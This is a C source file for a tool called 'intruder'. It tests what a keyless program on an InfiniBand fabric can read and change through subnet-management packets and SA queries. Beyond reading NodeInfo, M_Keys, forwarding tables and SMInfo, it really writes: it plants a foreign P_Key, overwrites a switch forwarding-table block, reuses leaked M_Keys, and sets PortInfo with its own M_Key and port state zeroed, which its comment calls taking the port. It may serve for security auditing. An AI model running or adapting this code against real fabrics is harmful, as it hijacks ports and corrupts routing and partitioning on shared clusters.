// SPDX-License-Identifier: Apache-2.0
/*
 * intruder smp|sa ROUTE...: what a program on this port of the fabric, that knows no key, can read
 * of other ports and change about them by SMPs, or gets from the SA. A route is that of smpquery -D
 * ("0,1,3"); the first is the subnet manager's host, the second a switch, all further ones hosts.
 *
 * One line each: what was asked, a tabulator, what came of it. What hosts and switches answer alike
 * is one line; where they differ each difference is told.
 */
#include <infiniband/mad.h>
#include <infiniband/umad.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define TIMEOUT_MS 300
#define SA_TIMEOUT_MS 700 /* it answers out of the subnet manager */
#define LAST_LID 16
#define TAKEN UINT64_C(0x6261640000000001) /* the M_Key that it would give a port */
#define FOREIGN_PKEY 0x8abcu
#define FOREIGN_BLOCK 1 /* of a P_Key table: opensm uses the first alone in so small a subnet */
#define UNUSED_LIDS 5   /* a block of a switch's forwarding table that no port is in */
#define DEFAULT_SA_KEY 1

static int port_id, smp_agent, sa_agent;
static unsigned sm_lid;
static uint64_t transaction = 0x1000;
static uint8_t answer[1024];

/* ---- sending --------------------------------------------------------------------------------- */

/* True: an answer came, with its header at answer + umad_size(). */
static bool exchange(int agent, void *umad, int timeout_ms)
{
    const uint64_t wanted = transaction & 0xffffffff;
    if (umad_send(port_id, agent, umad, IB_MAD_SIZE, timeout_ms, 0) < 0)
        return false;
    for (;;) {
        int length = IB_MAD_SIZE;
        if (umad_recv(port_id, answer, &length, timeout_ms) < 0)
            return false;
        uint8_t *mad = umad_get_mad(answer);
        if ((mad_get_field64(mad, 0, IB_MAD_TRID_F) & 0xffffffff) == wanted)
            return umad_status(answer) == 0;
    }
}

struct smp {
    uint8_t method;
    uint16_t attribute;
    uint32_t modifier;
    uint64_t key;
    const uint8_t *data; /* of a Set */
};

static unsigned parse_route(const char *route, uint8_t *path)
{
    unsigned hops = 0;
    for (const char *rest = strchr(route, ','); rest; rest = strchr(rest + 1, ','))
        path[++hops] = (uint8_t)strtoul(rest + 1, NULL, 10);
    return hops;
}

/* The answer's data; NULL: none came, or a refusal. */
static uint8_t *ask(const char *route, const struct smp *smp)
{
    uint8_t request[1024] = {0}, path[IB_SUBNET_PATH_HOPS_MAX] = {0};
    uint8_t *mad = umad_get_mad(request);
    mad[0] = 1;
    mad[1] = IB_SMI_DIRECT_CLASS;
    mad[2] = 1;
    mad[3] = smp->method;
    mad[7] = (uint8_t)parse_route(route, path);
    mad_set_field64(mad, 0, IB_MAD_TRID_F, ++transaction);
    mad_set_field(mad, 0, IB_MAD_ATTRID_F, smp->attribute);
    mad_set_field(mad, 0, IB_MAD_ATTRMOD_F, smp->modifier);
    mad_set_field64(mad, 0, IB_MAD_MKEY_F, smp->key);
    mad_set_field(mad, 0, IB_DRSMP_DRDLID_F, 0xffff);
    mad_set_field(mad, 0, IB_DRSMP_DRSLID_F, 0xffff);
    memcpy(mad + 128, path, sizeof path);
    if (smp->data)
        memcpy(mad + IB_SMP_DATA_OFFS, smp->data, IB_SMP_DATA_SIZE);
    umad_set_addr(request, 0xffff, 0, 0, 0);
    if (!exchange(smp_agent, request, TIMEOUT_MS))
        return NULL;
    uint8_t *came = umad_get_mad(answer);
    const bool refused = mad_get_field(came, 0, IB_DRSMP_STATUS_F) != 0;
    return refused ? NULL : came + IB_SMP_DATA_OFFS;
}

/* ---- subnet management ----------------------------------------------------------------------- */

enum place { SM_HOST = 1, SWITCH = 2, HOSTS = 4 };

struct question {
    const char *name;
    uint16_t attribute;
    uint32_t modifier;
    unsigned places;
    const char *(*tell)(uint8_t *data); /* NULL: that it was answered */
};

static const char *tell_key(uint8_t *data)
{
    return mad_get_field64(data, 0, IB_PORT_MKEY_F) ? "the key" : "0";
}

static const char *tell_sm_key(uint8_t *data)
{
    return mad_get_field64(data, 0, IB_SMINFO_KEY_F) ? "with the SM_Key" : "without the SM_Key";
}

static const struct question questions[] = {
    {"Get(NodeInfo)", IB_ATTR_NODE_INFO, 0, SM_HOST | SWITCH | HOSTS, NULL},
    {"Get(NodeDescription)", IB_ATTR_NODE_DESC, 0, SM_HOST | SWITCH | HOSTS, NULL},
    {"Get(SwitchInfo)", IB_ATTR_SWITCH_INFO, 0, SWITCH, NULL},
    {"Get(GUIDInfo)", IB_ATTR_GUID_INFO, 0, SM_HOST | SWITCH | HOSTS, NULL},
    {"Get(P_KeyTable)", IB_ATTR_PKEY_TBL, 0, SM_HOST | SWITCH | HOSTS, NULL},
    {"Get(SLtoVLMappingTable)", IB_ATTR_SLVL_TABLE, 0, SM_HOST | SWITCH | HOSTS, NULL},
    {"Get(LinearForwardingTable)", IB_ATTR_LINEARFORWTBL, 0, SWITCH, NULL},
    {"Get(MulticastForwardingTable)", IB_ATTR_MULTICASTFORWTBL, 0, SWITCH, NULL},
    {"Get(PortInfo): its M_Key", IB_ATTR_PORT_INFO, 0, SM_HOST | SWITCH | HOSTS, tell_key},
    {"Get(SMInfo) of the master", IB_ATTR_SMINFO, 0, SM_HOST, tell_sm_key},
};

static unsigned place_of(int index)
{
    return index == 0 ? SM_HOST : index == 1 ? SWITCH : HOSTS;
}

static const char *result_of(const char *route, const struct question *question)
{
    const struct smp smp = {IB_MAD_METHOD_GET, question->attribute, question->modifier, 0, NULL};
    uint8_t *data = ask(route, &smp);
    if (!data)
        return "silence";
    return question->tell ? question->tell(data) : "answered";
}

static void put_question(const struct question *question, char **routes, int count)
{
    const char *first = NULL;
    printf("%s\t", question->name);
    for (int i = 0; i < count; i++) {
        if (!(question->places & place_of(i)))
            continue;
        const char *result = result_of(routes[i], question);
        if (!first || strcmp(first, result) != 0)
            printf("%s%s", first ? " / " : "", result);
        first = result;
    }
    printf("\n");
}

/* ---- changing -------------------------------------------------------------------------------- */

static bool set_pkey(const char *route, uint64_t key)
{
    uint8_t data[IB_SMP_DATA_SIZE] = {FOREIGN_PKEY >> 8, FOREIGN_PKEY & 0xff};
    const struct smp smp = {IB_MAD_METHOD_SET, IB_ATTR_PKEY_TBL, FOREIGN_BLOCK, key, data};
    return ask(route, &smp) != NULL;
}

static bool set_forwarding(const char *route)
{
    uint8_t data[IB_SMP_DATA_SIZE];
    memset(data, 1, sizeof data);
    const struct smp smp = {IB_MAD_METHOD_SET, IB_ATTR_LINEARFORWTBL, UNUSED_LIDS, 0, data};
    return ask(route, &smp) != NULL;
}

/* What no port reveals is left zero. */
static bool set_port_info(const char *route, uint64_t key)
{
    uint8_t data[IB_SMP_DATA_SIZE] = {0};
    const struct smp get = {IB_MAD_METHOD_GET, IB_ATTR_PORT_INFO, 0, key, NULL};
    const uint8_t *now = ask(route, &get);
    if (now)
        memcpy(data, now, sizeof data);
    mad_set_field64(data, 0, IB_PORT_MKEY_F, TAKEN);
    mad_set_field(data, 0, IB_PORT_STATE_F, 0);
    mad_set_field(data, 0, IB_PORT_PHYS_STATE_F, 0);
    const struct smp set = {IB_MAD_METHOD_SET, IB_ATTR_PORT_INFO, 0, key, data};
    return ask(route, &set) != NULL;
}

static uint64_t key_shown_by(const char *route)
{
    const struct smp smp = {IB_MAD_METHOD_GET, IB_ATTR_PORT_INFO, 0, 0, NULL};
    uint8_t *data = ask(route, &smp);
    return data ? mad_get_field64(data, 0, IB_PORT_MKEY_F) : 0;
}

static const char *told(int obeyed, int asked)
{
    return obeyed == 0 ? "silence" : obeyed == asked ? "obeyed" : "obeyed by some";
}

static void change(char **routes, int count)
{
    int pkey = 0, with_shown = 0, info = 0;
    for (int i = 2; i < count; i++)
        pkey += set_pkey(routes[i], 0);
    printf("Set(P_KeyTable)\t%s\n", told(pkey, count - 2));
    printf("Set(LinearForwardingTable)\t%s\n", told(set_forwarding(routes[1]), 1));
    for (int i = 2; i < count; i++)
        with_shown += set_pkey(routes[i], key_shown_by(routes[i]));
    printf("Set(P_KeyTable) with the M_Key that PortInfo shows\t%s\n", told(with_shown, count - 2));
    /* The last: whoever has done this has taken the port. */
    for (int i = 1; i < count; i++)
        info += set_port_info(routes[i], 0);
    printf("Set(PortInfo) with an M_Key of its own\t%s\n", told(info, count - 1));
}

/* ---- subnet administration ------------------------------------------------------------------- */

/* The first record; NULL: none. *silent: nobody answered at all. */
static uint8_t *ask_sa(uint16_t attribute, uint8_t method, uint64_t mask, unsigned lid,
                       uint64_t sm_key, bool *silent)
{
    uint8_t request[1024] = {0};
    uint8_t *mad = umad_get_mad(request);
    mad[0] = 1;
    mad[1] = IB_SA_CLASS;
    mad[2] = 2;
    mad[3] = method;
    mad_set_field64(mad, 0, IB_MAD_TRID_F, ++transaction);
    mad_set_field(mad, 0, IB_MAD_ATTRID_F, attribute);
    mad_set_field64(mad, 0, IB_SA_MKEY_F, sm_key);
    mad_set_field64(mad, 0, IB_SA_COMPMASK_F, mask);
    mad[IB_SA_DATA_OFFS] = (uint8_t)(lid >> 8);
    mad[IB_SA_DATA_OFFS + 1] = (uint8_t)lid;
    umad_set_addr(request, (int)sm_lid, 1, 0, (int)IB_DEFAULT_QP1_QKEY);
    *silent = !exchange(sa_agent, request, SA_TIMEOUT_MS);
    uint8_t *came = umad_get_mad(answer);
    if (*silent || mad_get_field(came, 0, IB_MAD_STATUS_F) != 0 ||
        mad_get_field(came, 0, IB_SA_ATTROFFS_F) == 0)
        return NULL;
    return came + IB_SA_DATA_OFFS;
}

static const struct {
    const char *name;
    uint16_t attribute;
} records[] = {
    {"NodeRecord", IB_SA_ATTR_NODERECORD},
    {"SwitchInfoRecord", 0x14},
    {"LinkRecord", IB_SA_ATTR_LINKRECORD},
    {"LinearForwardingTableRecord", 0x15},
    {"SMInfoRecord", 0x18},
    {"MCMemberRecord", IB_SA_ATTR_MCRECORD},
    {"SLtoVLMappingTableRecord", 0x13},
    {"GUIDInfoRecord", 0x30},
};

static void ask_records(uint64_t sm_key)
{
    for (size_t i = 0; i < sizeof records / sizeof *records; i++) {
        bool silent;
        uint8_t *record =
            ask_sa(records[i].attribute, IB_MAD_METHOD_GET_TABLE, 0, 0, sm_key, &silent);
        printf("%s\t%s\n", records[i].name, record ? "records" : silent ? "silence" : "none");
    }
}

/* Of each port that the SA knows. */
static void ask_ports(uint64_t sm_key)
{
    unsigned infos = 0, keys = 0, tables = 0, answers = 0;
    for (unsigned lid = 1; lid <= LAST_LID && (lid == 1 || answers); lid++) {
        bool silent;
        /* LID alone, or with the block (bit 2) 0, which the record's zeros say. */
        uint8_t *info =
            ask_sa(IB_SA_ATTR_PORTINFORECORD, IB_MAD_METHOD_GET_TABLE, 1, lid, sm_key, &silent);
        answers += !silent;
        infos += info != NULL;
        /* PortInfo comes behind the LID, the port's number and an octet. */
        keys += info && mad_get_field64(info + 4, 0, IB_PORT_MKEY_F) != 0;
        uint8_t *table =
            ask_sa(IB_SA_ATTR_PKEYTABLERECORD, IB_MAD_METHOD_GET_TABLE, 1, lid, sm_key, &silent);
        answers += !silent;
        tables += table != NULL;
    }
    printf("PortInfoRecord: the ports' M_Keys\t%s\n", !answers ? "silence"
                                                      : keys   ? "the keys"
                                                      : infos  ? "0"
                                                               : "none");
    printf("P_KeyTableRecord\t%s\n", !answers ? "silence" : tables ? "records" : "none");
}

static void ask_all_of_sa(uint64_t sm_key)
{
    ask_records(sm_key);
    ask_ports(sm_key);
}

/* ---- all of it ------------------------------------------------------------------------------- */

static bool open_port(void)
{
    umad_port_t port;
    if (umad_init() < 0 || umad_get_port(NULL, 0, &port) < 0)
        return false;
    sm_lid = port.sm_lid;
    umad_release_port(&port);
    port_id = umad_open_port(NULL, 0);
    smp_agent = umad_register(port_id, IB_SMI_DIRECT_CLASS, 1, 0, NULL);
    sa_agent = umad_register(port_id, IB_SA_CLASS, 2, 1, NULL);
    return port_id >= 0 && smp_agent >= 0 && sa_agent >= 0;
}

int main(int argc, char **argv)
{
    if (argc < 5 || !open_port()) {
        fprintf(stderr, "usage: intruder smp|sa SM-ROUTE SWITCH-ROUTE HOST-ROUTE..., on a fabric's "
                        "port\n");
        return 2;
    }
    if (strcmp(argv[1], "sa") == 0) {
        printf("# SM_Key 0\n");
        ask_all_of_sa(0);
        printf("# SM_Key 1\n");
        ask_all_of_sa(DEFAULT_SA_KEY);
        return 0;
    }
    for (size_t i = 0; i < sizeof questions / sizeof *questions; i++)
        put_question(&questions[i], argv + 2, argc - 2);
    change(argv + 2, argc - 2);
    return 0;
}
